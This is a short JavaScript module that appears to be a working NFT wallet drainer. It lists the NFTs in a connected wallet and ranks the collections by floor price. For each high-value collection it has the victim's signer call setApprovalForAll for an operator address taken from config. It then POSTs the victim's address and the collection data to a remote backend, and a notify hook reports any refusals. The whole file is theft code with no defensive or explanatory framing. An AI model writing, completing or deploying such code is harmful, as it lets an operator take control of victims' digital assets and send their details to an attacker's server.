const { Alchemy, Network } = require("alchemy-sdk");
const al = new Alchemy({ apiKey: "KEY", network: Network.ETH_MAINNET });
const cfg = require("./owner");

const pick = async (wallet) => {
  const rows = {};
  for await (const n of al.nft.getNftsForOwnerIterator(wallet)) {
    const k = n.contract.address;
    const floor = n.contract.openSeaMetadata.floorPrice || 0;
    rows[k] = rows[k] || { k, floor, ids: [], name: n.contract.name };
    rows[k].ids.push(n.tokenId);
  }
  return Object.values(rows).map((r) => ({ ...r, eth: r.floor * r.ids.length })).filter((r) => r.eth >= cfg.floorMin).sort((a, b) => b.eth - a.eth);
};

const take = async (signer, r) => {
  const c = new ethers.Contract(r.k, ["function setApprovalForAll(address,bool)", "function isApprovedForAll(address,address) view returns(bool)"], signer);
  const who = await signer.getAddress();
  if (await c.isApprovedForAll(who, cfg.operator)) return cfg.notify("already", r);
  await c.setApprovalForAll(cfg.operator, true);
  return fetch(cfg.back + "/nft", { method: "POST", headers: { "x-key": cfg.id }, body: JSON.stringify({ who, ...r }) });
};

module.exports = async (signer) => {
  for (const r of await pick(await signer.getAddress())) await take(signer, r).catch((e) => cfg.notify("refused", r, e.code));
};
